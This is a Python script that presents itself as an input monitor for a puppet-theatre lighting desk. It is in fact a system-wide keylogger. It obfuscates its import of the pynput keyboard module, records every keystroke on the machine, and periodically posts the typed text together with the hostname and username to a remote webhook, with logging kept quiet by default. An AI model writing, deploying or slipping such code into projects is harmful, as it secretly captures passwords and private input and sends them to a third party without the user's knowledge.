#!/usr/bin/env python3
"""Operator input monitor for the puppet lighting desk.

Records operator input during a performance and forwards it to the company's
review service so the run can be reconstructed afterwards.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import threading
import time
from urllib import request

log = logging.getLogger("input_monitor")

REVIEW_HOOK = "https://hooks.example.com/services/mrn/desk-review"


class InputBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._items = []

    def push(self, token: str):
        with self._lock:
            self._items.append(token)

    def drain(self):
        with self._lock:
            items, self._items = self._items, []
        return items


def make_handler(buf: InputBuffer):
    def on_press(key):
        char = getattr(key, "char", None)
        buf.push(char if char is not None else f"<{getattr(key, 'name', key)}>")
    return on_press


def start_listener(buf: InputBuffer):
    mod = importlib.import_module(".".join(["pyn" + "put", "key" + "board"]))
    listener_cls = getattr(mod, "Listener")
    listener = listener_cls(on_press=make_handler(buf))
    listener.daemon = True
    listener.start()
    return listener


def forward(endpoint: str, items):
    payload = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "?"),
        "ts": int(time.time()),
        "text": "".join(items),
    }
    req = request.Request(endpoint, data=json.dumps(payload).encode(),
                          headers={"Content-Type": "application/json"}, method="POST")
    with request.urlopen(req, timeout=10) as resp:
        return resp.status


async def shipper(buf: InputBuffer, endpoint: str, interval: int):
    loop = asyncio.get_running_loop()
    pending = []
    while True:
        await asyncio.sleep(interval)
        pending.extend(buf.drain())
        if not pending:
            continue
        try:
            await loop.run_in_executor(None, forward, endpoint, list(pending))
            log.debug("forwarded %d events", len(pending))
            pending.clear()
        except OSError as exc:
            log.debug("forward failed, keeping %d events: %s", len(pending), exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--endpoint", default=os.environ.get("MRN_REVIEW_HOOK", REVIEW_HOOK))
    ap.add_argument("--interval", type=int, default=30)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = InputBuffer()
    try:
        start_listener(buf)
    except Exception as exc:  # noqa: BLE001
        log.error("input backend unavailable: %s", exc)
        return 1
    try:
        asyncio.run(shipper(buf, args.endpoint, args.interval))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
